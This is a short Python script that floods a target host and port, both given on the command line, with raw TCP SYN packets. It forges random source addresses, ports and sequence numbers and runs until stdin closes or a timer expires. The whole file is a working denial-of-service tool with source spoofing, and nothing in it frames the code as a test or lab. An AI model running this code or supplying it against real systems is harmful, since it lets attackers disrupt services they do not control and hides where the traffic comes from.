"""Sends first packets of TCP connections from addresses that nobody has, until stdin ends or the time is over.

Prints how many they were.
"""
import random
import select
import socket
import struct
import sys
import time

destination, port, end = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), time.monotonic() + float(sys.argv[3])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
NETWORK = 0x0A0A
# Version and header length, length, identity, fragment, time to live, protocol, and a checksum that the kernel fills in.
HEADER = struct.pack("!BBHHHBBHH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, NETWORK)
FLAGS = 5 << 12 | 0x02
WINDOW = 64000
FIXED = NETWORK + sum(struct.unpack("!HH", destination)) + socket.IPPROTO_TCP + 20 + port + FLAGS + WINDOW

sent = 0
while not select.select([0], [], [], 0)[0] and time.monotonic() < end:
    for _ in range(64):
        bits = random.getrandbits(48)
        host, source, sequence = bits & 0xFFFF, bits >> 16 & 0xFFFF | 0x400, bits >> 32
        total = FIXED + host + source + sequence
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        packet = struct.pack(
            "!14sH4sHHIIHHHH", HEADER, host, destination, source, port, sequence, 0, FLAGS, WINDOW, total ^ 0xFFFF, 0
        )
        sender.sendto(packet, (sys.argv[1], 0))
    sent += 64
print(sent)
